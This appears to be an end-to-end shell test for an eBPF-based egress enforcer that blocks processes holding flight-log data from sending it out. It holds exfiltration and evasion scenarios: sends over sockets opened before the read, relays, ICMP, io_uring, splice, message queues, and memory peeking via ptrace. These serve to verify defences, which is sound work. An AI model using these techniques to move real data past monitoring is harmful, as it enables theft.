#!/bin/bash
# Enforcement (run --enforce): a process that carries flight-log data
# reaches no destination the allow rules do not list. The exfiltration
# scenarios are those of the detection suites: fwsend's calls as in
# egress.sh, and the programs of evasion.sh and relays.sh
# (scenarios.sh). Each scenario's peer, a real host in a network namespace
# that writes what it receives to a file (or counts ICMP echoes), gets 0
# bytes of the log; each benign twin's traffic arrives whole. Then
# dry-run (delivered whole, reported), the fail mode (the programs leave
# with the collector), a reload switching modes, and what a refused
# connect costs.
set -u
# shellcheck source=tests/e2e/lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/e2e/scenarios.sh
. "$(dirname "$0")/scenarios.sh"

P_TCP=9301     # exfiltration over TCP (v4, v6, v4-mapped)
P_UDP4=9302
P_UDP6=9303
P_PRE=9304     # a flow set up before the taint
P_PRE2=9322    # the same with the other send calls
P_RELAY=9305   # behind a loopback relay
P_ALLOWED=9306 # the allowed ground-station server (on FW_PEER_IP4B)
P_TWIN=9307    # untainted twins
P_DRY=9308
P_AFTER=9309
P_TFO=9310 # evasion.sh's programs
P_B_TFO=9311
P_THREAD=9312
P_B_THREAD=9313
P_MMSG=9314
P_B_MMSG=9315
P_PTCP=9316 # relays.sh's programs
P_B_PTCP=9317
P_PUDP=9318
P_B_PUDP=9319
P_B_RELAY=9320
P_RELOAD=9321
P_DF_PIPE=9323 # dataflow.sh's scenarios
P_DF_GZIP=9324
P_DF_MULTI=9325
P_DF_SENDFILE=9326
P_DF_SPLICE=9327
P_DF_URING=9328
P_DF_URING_SENDTO=9329
P_B_DF_PIPE=9330
P_B_DF_SENDFILE=9331
P_B_DF_URING=9332
P_DF_URING_SPLICE=9333
P_DF_MQUEUE=9334
P_PEEK_VM=9335 # peek.sh's: another process's memory
P_PEEK_PTRACE=9336
P_B_DF_URING_SPLICE=9337
P_B_DF_MQUEUE=9338
P_B_PEEK=9339
FWURING=$FW_HELPERS/fwuring
FWMQ=$FW_HELPERS/fwmq
FWPEEK=$FW_HELPERS/fwpeek
L_SOCAT=7101
L_B_SOCAT=7102
L_TCP=7103
L_B_TCP=7104
L_UDP=7105
L_B_UDP=7106
PY=/usr/bin/python3
FWTHREAD=$FW_HELPERS/fwthread

fw_init
fw_netns_setup

rx() { fw_size "$FW_TMP/rx-$1-$2"; }

for p in $P_TCP $P_PRE $P_RELAY $P_ALLOWED $P_TWIN $P_DRY $P_AFTER $P_TFO \
	$P_B_TFO $P_THREAD $P_B_THREAD $P_PTCP $P_B_PTCP $P_PUDP $P_B_PUDP \
	$P_B_RELAY $P_RELOAD $P_PRE2 $P_DF_PIPE $P_DF_GZIP $P_DF_MULTI \
	$P_DF_SENDFILE $P_DF_SPLICE $P_DF_URING $P_B_DF_PIPE $P_B_DF_SENDFILE \
	$P_B_DF_URING $P_DF_URING_SPLICE $P_DF_MQUEUE $P_PEEK_VM $P_PEEK_PTRACE \
	$P_B_DF_URING_SPLICE $P_B_DF_MQUEUE $P_B_PEEK; do
	fw_peer_keep tcp4 "$p"
done
fw_peer_keep tcp6 "$P_TCP"
fw_peer_keep udp4 "$P_UDP4"
fw_peer_keep udp6 "$P_UDP6"
fw_peer_keep udp4 "$P_MMSG"
fw_peer_keep udp4 "$P_B_MMSG"
fw_peer_keep udp4 "$P_DF_URING_SENDTO"

WATCH=$FW_TMP/Telemetry
WORK=$FW_TMP/work
mkdir -p "$WATCH" "$WORK"
LOG=$WATCH/flight.tlog
fw_mklog tlog 64k "$LOG"
SIZE=$(fw_size "$LOG")
PLAIN=$WORK/plain.bin
head -c "$SIZE" /dev/urandom >"$PLAIN"
sc_write_scripts "$WORK"
sc_write_dataflow_scripts "$WORK"

# ICMP echo requests the peer received (its namespace's counter)
echoes() {
	nsenter --net="/run/netns/$FW_PEER" awk '
		$1 == "Icmp:" && !h { for (i = 2; i <= NF; i++) col[$i] = i; h = 1; next }
		$1 == "Icmp:" { print $col["InEchos"] }' /proc/net/snmp
}

# the python snippets: the tainted ones read the log first
PY_PRE='
import os, socket, sys, time
how = sys.argv[4] if len(sys.argv) > 4 else "send"
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
s.sendall(b"hello")           # before the taint: delivered
time.sleep(0.3)
f = open(sys.argv[3], "rb")
data = f.read()               # now the process carries the log
try:                          # queued: the egress hook drops its packets
    if how == "send":
        s.sendall(data)
    elif how == "write":
        os.write(s.fileno(), data)
    elif how == "writev":
        os.writev(s.fileno(), [data[:1000], data[1000:]])
    elif how == "sendmsg":
        s.sendmsg([data])
    elif how == "sendfile":
        os.sendfile(s.fileno(), f.fileno(), 0, len(data))
    s.shutdown(socket.SHUT_WR)
except OSError as e:
    print("send:", e, file=sys.stderr)
time.sleep(1.5)
'
PY_RAW='
import socket, sys
if sys.argv[1] != "-":
    open(sys.argv[1], "rb").read()
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).close()
    print("raw ok")
except PermissionError:
    print("raw EPERM")
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
    print("packet ok")
except PermissionError:
    print("packet EPERM")
'

# tsend NAME ARGS...: fwsend in the ground-station namespace, to its end;
# RC[NAME] its exit status, PID[NAME] its pid
declare -A RC PID HOLD
tsend() {
	local name=$1
	shift
	fw_gs_bg "$FWSEND" --timeout 20 "$@" 2>"$FW_TMP/$name.send.err"
	PID[$name]=$FW_BG
	fw_wait_pid "$FW_BG" 30
	RC[$name]=$FW_RC
}

# denied NAME PID HOOK: a denied alert of pid with that hook
denied() {
	fw_json "$FW_OUT" | jq -c --arg pid "$2" --arg hook "$3" '
		select(.event.kind == "alert" and .event.type == "denied" and
		       (.process.pid | tostring) == $pid and
		       .flightwatch.enforcement.hook == $hook)' | tail -n 1
}

has_denied() { [ -n "$(denied x "$1" "$2")" ]; }

expect_denied() {
	local name=$1 pid=$2 hook=$3 a
	a=$(denied "$name" "$pid" "$hook")
	if check "$name: denied alert ($hook)" != "" "$a"; then
		check "$name: event.outcome" == failure "$(fw_get "$a" .event.outcome)"
		check "$name: the chain names the log" == "$LOG" \
			"$(fw_get "$a" '.flightwatch.chain[0].path')"
	fi
}

# ---- enforce ----------------------------------------------------------------
fw_tracer_start enforce --no-default-rules --watch "$WATCH" --enforce \
	--allow "$FW_PEER_IP4B/32:$P_ALLOWED" || fw_abort "tracer did not start"
ready=$(fw_json "$FW_OUT" | jq -c 'select(.event.action == "ready")')
check "ready line: mode" == enforce "$(fw_get "$ready" '.flightwatch.mode')"
for h in cgroup/connect4 cgroup/connect6 cgroup/sendmsg4 cgroup/sendmsg6 \
	cgroup/sock_create cgroup_skb/egress; do
	check "ready line: $h attached" == true \
		"$(jq -r --arg h "$h" '.flightwatch.hooks | index($h) != null' <<<"$ready")"
done
ROOT_CG=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
check "bpftool: enforcement programs on the cgroup root" -ge 6 \
	"$(bpftool cgroup show "$ROOT_CG" 2>/dev/null | grep -c fw_enforce_)"

# exfiltration scenarios: 0 bytes of the log reach the peer
tsend tcp4 --read read "$LOG" --send write --to "$FW_PEER_IP4" --port "$P_TCP"
check "tcp4: connect refused (fwsend fails)" -ne 0 "${RC[tcp4]}"
grep -q "Operation not permitted" "$FW_TMP/tcp4.send.err" &&
	pass "tcp4: EPERM" || fail "tcp4: EPERM" EPERM "$(cat "$FW_TMP/tcp4.send.err")"
# egress.sh's other sends (scenarios.sh): every one refused
refused() {
	tsend "$@"
	check "$1: refused (fwsend fails)" -ne 0 "${RC[$1]}"
	REFUSED+=("$1")
}
REFUSED=()
sc_egress_sends refused "$LOG" "$P_TCP" "$P_UDP4" "$P_TCP" "$P_UDP6"

# a TCP flow connected before the taint: its later packets are dropped
fw_gs_bg python3 -c "$PY_PRE" "$FW_PEER_IP4" "$P_PRE" "$LOG"
PID[pre]=$FW_BG
PRE_HOWS=(write writev sendmsg sendfile)
for how in "${PRE_HOWS[@]}"; do
	fw_gs_bg python3 -c "$PY_PRE" "$FW_PEER_IP4" "$P_PRE2" "$LOG" "$how"
	PID[pre-$how]=$FW_BG
done
for how in "${PRE_HOWS[@]}"; do
	fw_wait_pid "${PID[pre-$how]}" 20
done
fw_wait_pid "${PID[pre]}" 20

# relays.sh's socat proxy: it connects to the peer before any data, and
# becomes a carrier when it reads: its packets are dropped (its client's
# loopback hop stays allowed: the client's exit status is checked)
sc_socat_proxy relay 127.0.0.1 "$L_SOCAT" "$P_RELAY" "$LOG"
PID[relay]=${FW_PIDS[relay-proxy]}
sc_socat_proxy b-relay 127.0.0.1 "$L_B_SOCAT" "$P_B_RELAY" "$PLAIN"
fw_wait_pid "${FW_PIDS[b-relay-proxy]}" 20
check "b-relay: the proxy of untainted data ends" -eq 0 "$FW_RC"

# relays.sh's python proxies: they connect after reading, refused
sc_start ptcp-proxy "$WORK/tcp.ready" "$PY" "$WORK/tcp_proxy.py" "$L_TCP" \
	"$WORK/tcp.ready" "$FW_PEER_IP4" "$P_PTCP"
sc_start b-ptcp-proxy "$WORK/b-tcp.ready" "$PY" "$WORK/tcp_proxy.py" \
	"$L_B_TCP" "$WORK/b-tcp.ready" "$FW_PEER_IP4" "$P_B_PTCP"
fw_sc ptcp-client "$PY" "$WORK/tcp_client.py" "$LOG" 40124 "$L_TCP"
fw_sc b-ptcp-client "$PY" "$WORK/tcp_client.py" "$PLAIN" 40125 "$L_B_TCP"
sc_start pudp-proxy "$WORK/udp.ready" "$PY" "$WORK/udp_proxy.py" "$L_UDP" \
	"$WORK/udp.ready" "$FW_PEER_IP4" "$P_PUDP"
sc_start b-pudp-proxy "$WORK/b-udp.ready" "$PY" "$WORK/udp_proxy.py" \
	"$L_B_UDP" "$WORK/b-udp.ready" "$FW_PEER_IP4" "$P_B_PUDP"
fw_sc pudp-client "$PY" "$WORK/udp_client.py" "$LOG" "$L_UDP"
fw_sc b-pudp-client "$PY" "$WORK/udp_client.py" "$PLAIN" "$L_B_UDP"
for n in ptcp-proxy pudp-proxy; do
	fw_wait_pid "${FW_PIDS[$n]}" 30
	check "$n: the tainted proxy's upload is refused" -ne 0 "$FW_RC"
done
for n in b-ptcp-proxy b-pudp-proxy; do
	fw_wait_pid "${FW_PIDS[$n]}" 30
	check "$n: the proxy of untainted data succeeds" -eq 0 "$FW_RC"
done

# evasion.sh's programs: raw ICMP, TCP fast open, a thread outliving its
# leader, one sendmmsg to two hosts
e0=$(echoes)
sc_run icmp4 "$PY" "$WORK/icmp.py" "$LOG" 4 "$FW_PEER_IP4"
check "icmp4: refused" -ne 0 "$FW_RC"
e1=$(echoes)
fw_sc b-icmp4 "$PY" "$WORK/icmp.py" "$PLAIN" 4 "$FW_PEER_IP4"
sc_run tfo "$PY" "$WORK/tfo.py" "$LOG" "$FW_PEER_IP4" "$P_TFO"
check "tfo: refused" -ne 0 "$FW_RC"
fw_sc b-tfo "$PY" "$WORK/tfo.py" "$PLAIN" "$FW_PEER_IP4" "$P_B_TFO"
sc_run thread "$FWTHREAD" "$LOG" "$FW_PEER_IP4" "$P_THREAD"
check "thread: refused" -ne 0 "$FW_RC"
fw_sc b-thread "$FWTHREAD" "$PLAIN" "$FW_PEER_IP4" "$P_B_THREAD"
sc_run mmsg "$PY" "$WORK/mmsg.py" "$LOG" "$FW_PEER_IP4" "$FW_PEER_IP4B" "$P_MMSG"
check "mmsg: refused" -ne 0 "$FW_RC"
fw_sc b-mmsg "$PY" "$WORK/mmsg.py" "$PLAIN" "$FW_PEER_IP4" "$FW_PEER_IP4B" \
	"$P_B_MMSG"
for n in icmp4 tfo thread mmsg; do PID[$n]=${FW_PIDS[$n]}; done

# dataflow.sh's scenarios: carriers (pipe, derived file, several hops),
# sendfile and splice straight from the log, io_uring. Side by side: a
# sender whose flow the egress hook drops blocks once its socket buffer is
# full (nothing is acknowledged), until it is killed at the end.
df_bg() {
	local name=$1
	shift
	fw_gs_bg "$@" >"$FW_TMP/sc-$name.err" 2>&1
	FW_PIDS[$name]=$FW_BG
	FW_BG_PIDS+=("$FW_BG")
}
df_bg df-pipe bash -c "$SC_PIPE" df-pipe "$LOG" "$FW_PEER_IP4" "$P_DF_PIPE"
df_bg df-gzip bash -c "$SC_GZIP" df-gzip "$LOG" "$WORK/flight.gz" \
	"$FW_PEER_IP4" "$P_DF_GZIP"
df_bg df-multi bash -c "$SC_MULTI" df-multi "$LOG" "$WORK/flight.b64" \
	"$FW_PEER_IP4" "$P_DF_MULTI"
df_bg df-sendfile "$PY" "$WORK/sendfile.py" "$LOG" "$FW_PEER_IP4" \
	"$P_DF_SENDFILE"
df_bg df-splice "$PY" "$WORK/splice.py" "$LOG" "$FW_PEER_IP4" "$P_DF_SPLICE"
df_bg df-uring "$FWURING" send "$LOG" "$FW_PEER_IP4" "$P_DF_URING"
df_bg df-uring-sendto "$FWURING" sendto "$LOG" "$FW_PEER_IP4" \
	"$P_DF_URING_SENDTO"
fw_wait_for 8 fw_proc_done "${FW_PIDS[df-uring-sendto]}"
fw_sc b-df-pipe bash -c "$SC_B_PIPE" b-df-pipe "$FW_PEER_IP4" "$P_B_DF_PIPE"
fw_sc b-df-sendfile "$PY" "$WORK/sendfile.py" "$PLAIN" "$FW_PEER_IP4" \
	"$P_B_DF_SENDFILE"
fw_sc b-df-uring "$FWURING" send "$PLAIN" "$FW_PEER_IP4" "$P_B_DF_URING"
# io_uring splice into a pipe, a POSIX message queue (whose uploader
# connected before it received: its flow is dropped at egress)
df_bg df-uring-splice bash -c "$SC_URING_SPLICE" df-uring-splice "$FWURING" \
	"$LOG" "$FW_PEER_IP4" "$P_DF_URING_SPLICE"
df_bg df-mqueue bash -c "$SC_MQUEUE" df-mqueue "$FWMQ" "$LOG" \
	"$FW_PEER_IP4" "$P_DF_MQUEUE"
fw_sc b-df-uring-splice bash -c "$SC_URING_SPLICE" b-df-uring-splice \
	"$FWURING" "$PLAIN" "$FW_PEER_IP4" "$P_B_DF_URING_SPLICE"
fw_sc b-df-mqueue bash -c "$SC_MQUEUE" b-df-mqueue "$FWMQ" "$PLAIN" \
	"$FW_PEER_IP4" "$P_B_DF_MQUEUE"
# peek.sh's: a holder of the log's bytes, read by process_vm_readv and
# by ptrace; the holder of untainted bytes read the same way
for h in tainted plain; do
	f=$LOG
	[ "$h" = plain ] && f=$PLAIN
	fw_gs_bg "$FWSEND" --timeout 120 --read read "$f" \
		--touch "$FW_TMP/held-$h" --wait-file "$FW_TMP/free-$h" --send none
	HOLD[$h]=$FW_BG
	FW_BG_PIDS+=("$FW_BG")
	fw_wait_file "$FW_TMP/held-$h" 20 || fail "holder $h" "its file read" none
done
fw_gs "$FWPEEK" vm "${HOLD[tainted]}" "$FW_PEER_IP4" "$P_PEEK_VM" \
	>/dev/null 2>&1
fw_gs "$FWPEEK" ptrace "${HOLD[tainted]}" "$FW_PEER_IP4" "$P_PEEK_PTRACE" \
	>/dev/null 2>&1
fw_gs "$FWPEEK" vm "${HOLD[plain]}" "$FW_PEER_IP4" "$P_B_PEEK" \
	>"$FW_TMP/b-peek.out" 2>&1
touch "$FW_TMP/free-tainted" "$FW_TMP/free-plain"

# raw and packet sockets: refused to a tainted process, not to others.
# What tainted processes print is read only after the tracer stopped:
# this shell would otherwise become a carrier's reader, and every later
# child of it tainted.
fw_gs python3 -c "$PY_RAW" "$LOG" >"$FW_TMP/raw-tainted" 2>&1
fw_gs python3 -c "$PY_RAW" - >"$FW_TMP/raw-clean" 2>&1

# benign twins: delivered whole
tsend twin --bytes "$SIZE" --send write --to "$FW_PEER_IP4" --port "$P_TWIN"
check "twin (untainted, same peer): exit" -eq 0 "${RC[twin]}"
tsend allowed --read read "$LOG" --send write --to "$FW_PEER_IP4B" \
	--port "$P_ALLOWED"
check "allowed server (tainted): exit" -eq 0 "${RC[allowed]}"
sleep 1
check "twin: whole stream arrived" -eq "$SIZE" "$(rx tcp4 "$P_TWIN")"
check "allowed server: whole log arrived" -eq "$SIZE" "$(rx tcp4 "$P_ALLOWED")"
check "relay (socat proxy) peer: 0 bytes of the log" -eq 0 "$(rx tcp4 "$P_RELAY")"
check "b-relay (socat proxy, untainted): whole" -eq "$SIZE" "$(rx tcp4 "$P_B_RELAY")"
check "python TCP proxy peer: 0 bytes" -eq 0 "$(rx tcp4 "$P_PTCP")"
check "b: python TCP proxy, untainted: whole" -eq "$SIZE" "$(rx tcp4 "$P_B_PTCP")"
check "python UDP proxy peer: 0 bytes" -eq 0 "$(rx tcp4 "$P_PUDP")"
check "b: python UDP proxy, untainted: whole" -eq "$SIZE" "$(rx tcp4 "$P_B_PUDP")"
check "icmp4: 0 echoes reached the peer" -eq 0 "$((e1 - e0))"
check "b-icmp4: every echo reached the peer" -eq $(((SIZE + 1023) / 1024)) \
	"$(($(echoes) - e1))"
check "tfo peer: 0 bytes" -eq 0 "$(rx tcp4 "$P_TFO")"
check "b-tfo: whole" -eq "$SIZE" "$(rx tcp4 "$P_B_TFO")"
check "thread peer: 0 bytes" -eq 0 "$(rx tcp4 "$P_THREAD")"
check "b-thread: whole" -eq "$SIZE" "$(rx tcp4 "$P_B_THREAD")"
check "mmsg peers: 0 bytes" -eq 0 "$(rx udp4 "$P_MMSG")"
for p in $P_DF_PIPE $P_DF_GZIP $P_DF_MULTI $P_DF_SENDFILE $P_DF_SPLICE \
	$P_DF_URING; do
	check "dataflow scenario on port $p: 0 bytes" -eq 0 "$(rx tcp4 "$p")"
done
check "io_uring sendto peer: 0 bytes" -eq 0 "$(rx udp4 "$P_DF_URING_SENDTO")"
check "b: pipe of untainted data: whole" -eq 70000 "$(rx tcp4 "$P_B_DF_PIPE")"
check "b: sendfile of untainted data: whole" -eq "$SIZE" \
	"$(rx tcp4 "$P_B_DF_SENDFILE")"
check "b: io_uring send of untainted data: whole" -eq "$SIZE" \
	"$(rx tcp4 "$P_B_DF_URING")"
check "io_uring splice peer: 0 bytes" -eq 0 "$(rx tcp4 "$P_DF_URING_SPLICE")"
check "message queue peer: 0 bytes" -eq 0 "$(rx tcp4 "$P_DF_MQUEUE")"
check "b: io_uring splice of untainted data: whole" -eq "$SIZE" \
	"$(rx tcp4 "$P_B_DF_URING_SPLICE")"
check "b: message queue of untainted data: whole" -eq "$SIZE" \
	"$(rx tcp4 "$P_B_DF_MQUEUE")"
check "peeked memory (process_vm_readv) peer: 0 bytes" -eq 0 \
	"$(rx tcp4 "$P_PEEK_VM")"
check "peeked memory (ptrace) peer: 0 bytes" -eq 0 "$(rx tcp4 "$P_PEEK_PTRACE")"
B_PEEKED=$(sed -n 's/.*sent=\([0-9]*\).*/\1/p' "$FW_TMP/b-peek.out")
check "b: peek of untainted memory: whole" -eq "${B_PEEKED:-1}" \
	"$(rx tcp4 "$P_B_PEEK")"
check "b-mmsg: both hosts' datagrams (16 x 1 KiB)" -eq 16384 "$(rx udp4 "$P_B_MMSG")"
check "tcp (v4, v6, mapped) peers: 0 bytes" -eq 0 \
	"$(($(rx tcp4 "$P_TCP") + $(rx tcp6 "$P_TCP")))"
check "udp peers: 0 bytes" -eq 0 "$(($(rx udp4 "$P_UDP4") + $(rx udp6 "$P_UDP6")))"
check "pre-taint flow: only the 5 bytes sent before the taint" -eq 5 \
	"$(rx tcp4 "$P_PRE")"
check "pre-taint flows (${PRE_HOWS[*]}): only their 5 bytes each" \
	-eq $((5 * ${#PRE_HOWS[@]})) "$(rx tcp4 "$P_PRE2")"

# refused connect latency: tainted, 2000 refused connects
fw_gs python3 -c '
import socket, sys, time
open(sys.argv[1], "rb").read()
n, t = 2000, []
for i in range(n):
    s = socket.socket()
    t0 = time.perf_counter_ns()
    try:
        s.connect((sys.argv[2], int(sys.argv[3])))
    except PermissionError:
        pass
    t.append(time.perf_counter_ns() - t0)
    s.close()
t.sort()
print(t[n // 2] / 1000)
' "$LOG" "$FW_PEER_IP4" "$P_TCP" >"$FW_TMP/latency" 2>&1
fw_wait_for 5 has_denied "${PID[pre]}" egress
fw_tracer_stop

check "raw socket of a tainted process: EPERM" == yes \
	"$(grep -q 'raw EPERM' "$FW_TMP/raw-tainted" && echo yes)"
check "raw socket of an untainted process: created" == yes \
	"$(grep -q 'raw ok' "$FW_TMP/raw-clean" && echo yes)"
# the kernel runs cgroup/sock_create for INET sockets only
if grep -q 'packet EPERM' "$FW_TMP/raw-tainted"; then
	pass "packet socket of a tainted process: EPERM"
else
	skip "packet socket of a tainted process: not refused" \
		"cgroup/sock_create does not run for AF_PACKET"
fi
note "refused connect (tainted, EPERM): median $(cat "$FW_TMP/latency") us over 2000"
expect_denied tcp4 "${PID[tcp4]}" connect
for n in "${REFUSED[@]}"; do
	case $n in
	fork) ;; # the child sends: its pid is not known here
	udp4-connected | udp-connected-* | tcp* | read-*)
		expect_denied "$n" "${PID[$n]}" connect ;;
	*) expect_denied "$n" "${PID[$n]}" sendmsg ;;
	esac
done
expect_denied pre-taint "${PID[pre]}" egress
for how in "${PRE_HOWS[@]}"; do
	expect_denied "pre-taint $how" "${PID[pre-$how]}" egress
done
expect_denied relay "${PID[relay]}" egress
expect_denied df-sendfile "${FW_PIDS[df-sendfile]}" egress
expect_denied df-uring "${FW_PIDS[df-uring]}" egress # connected before it read
expect_denied tfo "${PID[tfo]}" connect
expect_denied thread "${PID[thread]}" connect
expect_denied mmsg "${PID[mmsg]}" sendmsg
a=$(denied icmp4 "${PID[icmp4]}" socket)
check "icmp4: denied alert (socket)" != "" "$a"
check "icmp4: message" contains "a raw socket" "$(fw_get "$a" .message)"
a=$(denied pre "${PID[pre]}" egress)
check "stats: no refused flow or mark evicted" -eq 0 \
	"$(fw_get "$(fw_stats)" '(.evicted.blocked // -1) + (.evicted.enforce_marks // -1) + 0')"
check "pre-taint: one alert per flow with a count (packets)" -ge 1 \
	"$(fw_get "$a" '.flightwatch.enforcement.attempts')"
check "pre-taint: no egress alert for the bytes dropped" == "" \
	"$(fw_json "$FW_OUT" | jq -c --arg p "${PID[pre]}" 'select(.event.action == "flightlog-egress" and (.process.pid|tostring) == $p)')"
pre_lines=$(fw_json "$FW_OUT" | jq -c --arg p "${PID[pre]}" \
	'select(.event.type == "denied" and (.process.pid|tostring) == $p)')
check "pre-taint: one flow (one event.id)" -eq 1 \
	"$(jq -r '.event.id' <<<"$pre_lines" | sort -u | wc -l)"
check "pre-taint: fewer records than packets dropped" -lt \
	"$(fw_get "$a" '.flightwatch.enforcement.attempts')" "$(wc -l <<<"$pre_lines")"
check "twin: no denied alert" == "" "$(fw_json "$FW_OUT" | jq -c --arg p "${PID[twin]}" 'select(.event.type == "denied" and (.process.pid|tostring) == $p)')"
check "allowed: no denied alert" == "" "$(fw_json "$FW_OUT" | jq -c --arg p "${PID[allowed]}" 'select(.event.type == "denied" and (.process.pid|tostring) == $p)')"

# fail mode: the links were held by the collector alone
check "fail mode: no enforcement program left after the stop" -eq 0 \
	"$(bpftool cgroup show "$ROOT_CG" 2>/dev/null | grep -c fw_enforce_)"
tsend after --read read "$LOG" --send write --to "$FW_PEER_IP4" --port "$P_AFTER"
check "fail mode: without the collector the send goes through" -eq 0 "${RC[after]}"
sleep 0.5
check "fail mode: delivered whole" -eq "$SIZE" "$(rx tcp4 "$P_AFTER")"

# ---- dry-run ------------------------------------------------------------------
fw_tracer_start dry-run --no-default-rules --watch "$WATCH" --enforce=dry-run ||
	fw_abort "tracer did not start"
tsend dry --read read "$LOG" --send write --to "$FW_PEER_IP4" --port "$P_DRY"
check "dry-run: the send goes through" -eq 0 "${RC[dry]}"
fw_wait_for 5 has_denied "${PID[dry]}" connect
fw_tracer_stop
check "dry-run: delivered whole" -eq "$SIZE" "$(rx tcp4 "$P_DRY")"
a=$(denied dry "${PID[dry]}" connect)
a=${a:-$(fw_json "$FW_OUT" | jq -c --arg p "${PID[dry]}" 'select(.flightwatch.enforcement.mode == "dry-run" and (.process.pid|tostring) == $p)' | tail -n 1)}
check "dry-run: reported" != "" "$a"
check "dry-run: flightwatch.enforcement.mode" == dry-run \
	"$(fw_get "$a" '.flightwatch.enforcement.mode')"
check "dry-run: the egress alert too (the data left)" != "" \
	"$(fw_json "$FW_OUT" | jq -c --arg p "${PID[dry]}" 'select(.event.action == "flightlog-egress" and (.process.pid|tostring) == $p)')"
# ---- mode: in the config, check-config, and a reload switching it -----------
CFG=$FW_TMP/flightwatch.yaml
printf 'mode: enforce\n' >"$CFG"
chmod 600 "$CFG"
check "check-config shows the mode" contains "mode: enforce" \
	"$("$FW_BIN" check-config "$CFG" 2>&1)"
fw_tracer_start reload --config "$CFG" --no-default-rules --watch "$WATCH" ||
	fw_abort "tracer did not start"
tsend reload-enforce --read read "$LOG" --send write --to "$FW_PEER_IP4" \
	--port "$P_RELOAD"
check "mode: enforce from the config: refused" -ne 0 "${RC[reload-enforce]}"
printf 'mode: detect\n' >"$CFG"
kill -HUP "$FW_TRACER_PID"
fw_wait_for 10 grep -q config-reloaded "$FW_OUT" ||
	fail "reload: config-reloaded" "a config-reloaded line" "none"
check "reload: the state line says the mode" contains "mode detect" \
	"$(fw_json "$FW_OUT" | jq -r 'select(.event.action == "config-reloaded") | .message')"
tsend reload-detect --read read "$LOG" --send write --to "$FW_PEER_IP4" \
	--port "$P_RELOAD"
check "after a reload to mode: detect: the send goes through" -eq 0 \
	"${RC[reload-detect]}"
fw_tracer_stop
check "reload: whole log delivered once detecting" -eq "$SIZE" \
	"$(rx tcp4 "$P_RELOAD")"
fw_finish
